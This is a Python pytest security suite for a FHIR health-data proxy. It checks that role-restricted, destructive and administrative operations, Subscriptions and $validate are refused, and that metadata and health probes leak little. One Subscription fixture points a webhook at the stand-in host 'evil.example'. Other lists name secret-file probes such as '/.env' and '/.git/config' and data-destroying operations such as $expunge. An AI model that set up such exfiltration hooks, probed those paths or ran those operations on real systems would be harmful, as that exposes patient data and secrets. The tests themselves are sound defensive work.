"""Section 16 of the security requirements, R-OP-1 to R-OP-7, on the running product.

The public role is not offered yet: what the requirements grant it is tested for the roles there
are, and that it is nobody.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import orjson
import pytest

from proxy.demo import ersd
from proxy.demo.capability import capability
from proxy.fhir import registry
from proxy.fhir.codec import decode, encode
from tests.security.product import (
    EPI,
    INV,
    LDS,
    NEVER,
    PUB,
    PUBLIC,
    RESTRICTED,
    ROLES,
    SERVED,
    Answer,
    Product,
    product,
)
from tests.security.revealing import MARKER, is_clean, person
from tests.security.serving import (
    FHIR,
    bundle,
    caller,
    common,
    holding,
    is_outcome,
    is_refusal,
    post,
    resources,
    settings_with,
)

REAL = f"MRN-{MARKER}"
PATIENT = person("Patient", REAL, gender="female")
OPERATIONS = (
    "$everything",
    "$validate",
    "$lastn",
    "$anything-new",
    "$document",
    "$export",
    "$export-poll-status",
    "$graphql",
    "$graph",
    "$meta",
    "$meta-add",
    "$match",
    "$expand",
    "$lookup",
    "$translate",
    "$process-message",
    "$diff",
    "$stats",
    "$binary-access-read",
    "$evaluate-measure",
    "$apply",
    "$snapshot",
    "$hapi.fhir.replace-references",
    "$",
)
DESTRUCTIVE = (
    "$expunge",
    "$delete-expunge",
    "$reindex",
    "$perform-reindexing-pass",
    "$mark-all-resources-for-reindexing",
    "$partition-management-create-partition",
    "$partition-management-delete-partition",
    "$trigger-subscription",
    "$upload-external-code-system",
    "$apply-codesystem-delta-add",
    "$import",
    "$import-poll-status",
    "$mdm-clear",
    "$merge",
    "$reindex-terminology",
    "$get-resource-counts",
)
PARAMETERS = orjson.dumps({"resourceType": "Parameters", "parameter": [{"name": MARKER}]})


async def everywhere(running: Product, role: str, operation: str) -> list[Answer]:
    """The operation on system, type and instance level (of what exists and what does not), by GET,
    POST, HEAD and as an entry of a batch."""
    shown = running.shown(role, "Patient", REAL)
    never = running.shown(role, "Patient", NEVER)
    encoded = operation.replace("$", "%24")
    paths = [
        operation,
        encoded,
        f"Patient/{operation}",
        f"Patient/{shown}/{operation}",
        f"Patient/{never}/{operation}",
        f"Patient/{REAL}/{operation}",
        f"Patient/{shown}/{encoded}",
        f"Patient/{operation}?_count=1",
    ]
    answers = []
    for path in paths:
        answers.append(await running.get(role, "/" + path))
        answers.append(
            await running.ask(role, "POST", f"/fhir/{path}", data=PARAMETERS, headers=FHIR)
        )
    return answers


@pytest.mark.parametrize("role", ROLES)
async def test_r_op_1_operations_are_denied(role: str, tmp_path: Path) -> None:
    """R-OP-1: what a role is not granted by name, type and level is refused on every level, by
    every method, the same whatever there is, and the upstream is not asked."""
    async with holding(PATIENT) as upstream, product(tmp_path) as running:
        for operation in OPERATIONS:
            if (role, operation) == (INV, "$everything"):
                continue  # granted, on a Patient
            answers = await everywhere(running, role, operation)
            assert all(map(is_refusal, answers)), operation
            assert all(is_clean(answer) for answer in answers)
            assert len({str(answer.same) for answer in answers}) == 1
            body = orjson.dumps(bundle("batch", operation, f"Patient/{operation}"))
            for entry in (await post(running, role, body)).json["entry"]:
                assert entry["response"]["status"][:3] in ("400", "403")
        assert upstream.calls() == []


@pytest.mark.parametrize("role", ROLES)
async def test_r_op_2_destructive_operations_are_refused(role: str, tmp_path: Path) -> None:
    """R-OP-2: administrative and destructive operations are refused for everyone, the investigator
    included."""
    async with holding(PATIENT) as upstream, product(tmp_path) as running:
        for operation in DESTRUCTIVE:
            assert all(map(is_refusal, await everywhere(running, role, operation))), operation
            for method in ("PUT", "DELETE", "PATCH"):
                answer = await running.ask(role, method, f"/fhir/{operation}", data=PARAMETERS)
                assert (answer.status, answer.code) == (405, "not-supported")
        assert upstream.calls() == []


SUBSCRIPTION: Any = {
    "resourceType": "Subscription",
    "id": "s",
    "status": "requested",
    "reason": MARKER,
    "criteria": "Patient?",
    "channel": {"type": "rest-hook", "endpoint": "http://evil.example/hook"},
}


@pytest.mark.parametrize("role", ROLES)
async def test_r_op_3_subscriptions_cannot_be_made(role: str, tmp_path: Path) -> None:
    """R-OP-3: a Subscription is not created, changed, deleted, read or searched, alone, in a batch
    or in a transaction; nothing is asked."""
    async with holding(SUBSCRIPTION) as upstream, product(tmp_path) as running:
        body = orjson.dumps(SUBSCRIPTION)
        for method, path in (
            ("POST", "/Subscription"),
            ("POST", "/Subscription/"),
            ("PUT", "/Subscription/s"),
            ("PUT", "/Subscription?criteria=Patient"),
            ("PATCH", "/Subscription/s"),
            ("DELETE", "/Subscription/s"),
            ("POST", "/Subscription/$trigger-subscription"),
            ("GET", "/Subscription"),
            ("GET", "/Subscription/s"),
            ("POST", "/SubscriptionTopic"),
        ):
            more = {} if method == "GET" else {"data": body, "headers": FHIR}
            answer = await running.ask(role, method, "/fhir" + path, **more)
            assert is_refusal(answer) or answer.status == 404
            assert is_clean(answer, "evil.example")
        entry = {"request": {"method": "POST", "url": "Subscription"}, "resource": SUBSCRIPTION}
        change = {"request": {"method": "PUT", "url": "Subscription/s"}, "resource": SUBSCRIPTION}
        for each in (entry, change):
            answer = await post(running, role, orjson.dumps(bundle("transaction", each)))
            assert is_refusal(answer)
            answer = await post(running, role, orjson.dumps(bundle("batch", each)))
            assert answer.json["entry"][0]["response"]["status"][:3] in ("403", "405")
        assert upstream.calls() == []


async def test_r_op_4_nobody_is_told_little(tmp_path: Path) -> None:
    """R-OP-4: without a token the statement names software, base and security, no more: nothing of
    the upstream; nothing is asked for it beyond what was learned at the start."""
    async with holding(PATIENT) as upstream, product(tmp_path) as running:
        answer = await running.get(None, "/metadata")
        assert answer.status == 200
        assert not answer.says("HAPI")
        assert not answer.says(upstream.base)
        assert answer.json["implementation"]["url"] == PUBLIC
        assert answer.json["software"]["name"] == "ecr-proxy"
        (rest,) = answer.json["rest"]
        assert set(rest) == {"mode", "security"}
        assert rest["security"]["service"][0]["coding"][0]["code"] == "SMART-on-FHIR"
        assert all("json" in each for each in answer.json["format"])
        for accept in ("application/fhir+xml", "text/html"):
            other = await running.get(None, "/metadata", headers={"Accept": accept})
            assert (other.status, other.code) == (406, "not-supported")
        calls = {(method, target) for method, target, _ in upstream.calls()}
        assert calls <= {("GET", "/fhir/metadata")}


VALUES = {
    "token": "http://loinc.org|8480-6",
    "date": "2018",
    "reference": "Patient/x",
    "string": "abc",
    "number": "1",
    "quantity": "1",
    "uri": "http://example.org/x",
}


@pytest.mark.parametrize("role", RESTRICTED)
async def test_r_op_4_what_is_listed_is_answered(role: str, tmp_path: Path) -> None:
    """R-OP-4: what the statement lists for a role is answered, and what it does not list is
    refused: every type, interaction and parameter that R4 and US Core know."""
    async with holding(PATIENT) as upstream, product(tmp_path) as running:
        statement = await running.get(role, "/metadata")
        for secret in (upstream.base, "HAPI", "$", "_history", "everything", MARKER):
            assert not statement.says(secret)
        (rest,) = statement.json["rest"]
        assert "security" in rest
        assert {i["code"] for i in rest["interaction"]} == {"batch", "transaction"}
        listed = {
            each["type"]: {p["name"] for p in each.get("searchParam", ())}
            for each in rest["resource"]
        }
        assert listed
        granted = [(r["type"], o["name"]) for r in rest["resource"] for o in r.get("operation", ())]
        assert granted == [("Composition", "document")]
        for each in rest["resource"]:
            codes = {i["code"] for i in each["interaction"]}
            assert codes == {"read", "search-type"}
            assert each["versioning"] == "no-version"
        for hidden in ("family", "name", "telecom", "email", "phonetic", "address"):
            assert hidden not in listed["Patient"]
        answered = {}
        for type_ in ("Patient", "Observation", "Bundle", "Encounter", "PlanDefinition", "Media"):
            for code, known in registry.get(type_).items():
                value = VALUES.get(known.type)
                if value is None or code in ("_query", "_has", "_filter"):
                    continue
                if code == "address-postalcode":
                    value = "481"
                if code == "_id":
                    value = "x"
                upstream.calls()
                answer = await running.get(role, f"/{type_}?{code}={value}")
                answered[type_, code] = answer.status not in (400, 403) or answer.code == "value"
                if not answered[type_, code]:
                    assert upstream.calls() == []
        own = orjson.loads(capability(upstream.base))["rest"][0]["resource"]
        offered = {r["type"]: {p["name"] for p in r.get("searchParam", ())} for r in own}
        for (type_, code), is_answered in answered.items():
            if code in offered[type_]:  # what the upstream does not offer is not listed
                assert is_answered == (code in listed.get(type_, ())), (type_, code)
        assert sum(answered.values()) > 30


@pytest.mark.parametrize("role", ROLES)
async def test_r_op_4_statement_takes_no_tricks(role: str, tmp_path: Path) -> None:
    """R-OP-4: modes and parameters that could make another statement are refused."""
    async with holding(PATIENT), product(tmp_path) as running:
        for query in ("mode=normative", "mode=terminology", "_summary=x", "x=1", "_elements=rest"):
            answer = await running.get(role, f"/metadata?{query}")
            assert answer.status == 400
        assert (await running.ask(role, "POST", "/fhir/metadata")).status in (404, 405)
        assert (await running.get(role, "/conformance")).status == 404


@pytest.mark.parametrize("role", RESTRICTED)
async def test_r_op_5_validation_is_refused(role: str, tmp_path: Path) -> None:
    """R-OP-5: $validate, which could tell whether hidden resources exist, is refused in every
    form."""
    resource = {
        "resourceType": "Observation",
        "status": "final",
        "code": {"text": MARKER},
        "subject": {"reference": f"Patient/{REAL}"},
    }
    async with holding(PATIENT) as upstream, product(tmp_path) as running:
        shown = running.shown(role, "Patient", REAL)
        for path in (
            "/Patient/$validate",
            "/Observation/$validate",
            f"/Patient/{shown}/$validate",
            f"/Patient/{shown}/$validate?mode=delete",
            "/Patient/$validate?profile=http://example.org/x",
            "/$validate",
            "/Observation/%24validate",
        ):
            answers = [
                await running.get(role, path),
                await running.ask(
                    role, "POST", "/fhir" + path, data=orjson.dumps(resource), headers=FHIR
                ),
            ]
            assert all(map(is_refusal, answers))
            assert all(is_clean(answer) for answer in answers)
        assert upstream.calls() == []


@pytest.mark.parametrize("role", [None, *ROLES])
async def test_r_op_6_probes_say_a_word(role: str | None, tmp_path: Path) -> None:
    """R-OP-6: health and readiness say up or down; nothing of administration is on this
    listener."""
    async with holding(PATIENT) as upstream, product(tmp_path) as running:
        for probe in ("/healthz", "/readyz"):
            answer = await running.ask(role, "GET", probe)
            assert (answer.status, answer.body) == (200, b"up\n")
            assert (await running.ask(role, "HEAD", probe)).body == b""
            for other in (f"{probe}?verbose=1", f"{probe}/", f"/fhir{probe}", f"{probe}/x"):
                answer = await running.ask(role, "GET", other)
                assert answer.status in (400, 401, 404)
                assert is_outcome(answer)
            assert (await running.ask(role, "POST", probe)).status in (404, 405)
        for path in (
            "/metrics",
            "/admin",
            "/reload",
            "/debug",
            "/actuator",
            "/actuator/health",
            "/config",
            "/status",
            "/version",
            "/keys",
            "/audit",
            "/",
            "/favicon.ico",
            "/openapi.json",
            "/docs",
            "/.env",
            "/.git/config",
            "/debug/pprof/",
            "/server-status",
        ):
            for method in ("GET", "POST", "HEAD"):
                answer = await running.ask(role, method, path)
                assert answer.status == 404
                if method != "HEAD":
                    assert answer.code == "not-found"
        for path in ("/fhir/metrics", "/fhir/admin", "/fhir/$reload", "/fhir/debug"):
            answer = await running.ask(role, "GET", path)
            assert answer.status in ((401,) if role is None else (403, 404))
        assert upstream.calls() == []


async def test_r_op_6_readiness_without_upstream(tmp_path: Path) -> None:
    """R-OP-6: with the upstream away health says up, and neither probe says why the other is
    down."""
    async with product(tmp_path) as running:
        for _ in range(10):
            await running.get(LDS, "/Patient?gender=female")
        health, ready = [await running.ask(None, "GET", p) for p in ("/healthz", "/readyz")]
        assert (health.status, health.body) == (200, b"up\n")
        assert (ready.status, ready.body) in ((200, b"up\n"), (503, b"down\n"))


REFUSED_ROUND_ERSD = (
    "/Library?_include=Library:depends-on",
    "/Library?_include=*",
    "/Library?_include:iterate=PlanDefinition:definition",
    "/ValueSet?_revinclude=Observation:code",
    "/ValueSet?_revinclude=*",
    "/Library?_has:PlanDefinition:definition:status=active",
    "/Library?depends-on.title=x",
    "/PlanDefinition?composed-of:Patient.family=x",
    "/Library?_list=x",
    "/Library?_contained=true",
    "/ValueSet?_filter=status eq active".replace(" ", "%20"),
    "/ValueSet/$expand",
    "/CodeSystem/$lookup",
    "/PlanDefinition/$apply",
    "/Questionnaire",
    "/StructureDefinition",
    "/SearchParameter",
    "/OperationDefinition",
    "/ConceptMap",
    "/Measure",
    "/Basic",
)


@pytest.mark.parametrize("role", [*RESTRICTED, EPI, PUB])
async def test_r_op_7_specifications_are_unchanged(role: str, tmp_path: Path) -> None:
    """R-OP-7: PlanDefinition, Library, ValueSet and CodeSystem are read and searched as they are,
    under their own ids; includes, chains, reverse chains, operations and other types are refused
    without an upstream call."""
    held = [r for r in ersd.resources() if r["resourceType"] != "Bundle"]
    async with holding(*held, PATIENT) as upstream, product(tmp_path) as running:
        kinds = {"PlanDefinition", "Library", "ValueSet", "CodeSystem"}
        assert {str(r["resourceType"]) for r in held} & kinds
        for resource in held:
            kind, id_ = str(resource["resourceType"]), str(resource["id"])
            assert kind in kinds
            read = await running.get(role, f"/{kind}/{id_}")
            found = await running.get(role, f"/{kind}?_id={id_}")
            assert read.status == found.status == 200
            (row,) = resources(found)
            assert row == read.json
            shown, stored = decode(read.body), decode(encode(resource))
            assert isinstance(shown, dict)
            assert isinstance(stored, dict)
            assert shown | {"meta": None} == stored | {"meta": None}
        upstream.calls()
        for target in REFUSED_ROUND_ERSD:
            answer = await running.get(role, target)
            assert is_refusal(answer), target
        assert upstream.calls() == []


async def test_r_op_7_nobody_is_not_the_public(tmp_path: Path) -> None:
    """R-OP-7: a token of a role that no policy serves opens nothing, the specifications included;
    the public role's statement lists the specifications alone."""
    nobody = caller("visitor", "visitor", subject="anyone", project="")
    async with (
        holding(*ersd.resources(), PATIENT) as upstream,
        product(tmp_path, **settings_with(nobody)) as running,
    ):
        for target in ("/PlanDefinition", "/Library?status=active", "/Patient", "/ValueSet/x"):
            answer = await running.get("visitor", target)
            assert (answer.status, answer.code) == (403, "forbidden")
        assert upstream.calls() == []
        described = await running.get("visitor", "/metadata")
        assert described.status in (200, 403)
        assert "resource" not in described.json.get("rest", [{}])[0]
        (rest,) = (await running.get(PUB, "/metadata")).json["rest"]
        kinds = ["CodeSystem", "Library", "PlanDefinition", "ValueSet"]
        assert sorted(each["type"] for each in rest["resource"]) == kinds


def test_every_role_is_tested() -> None:
    """The roles of these tests are those that the configuration serves."""
    assert set(common()[0].roles) == set(SERVED)
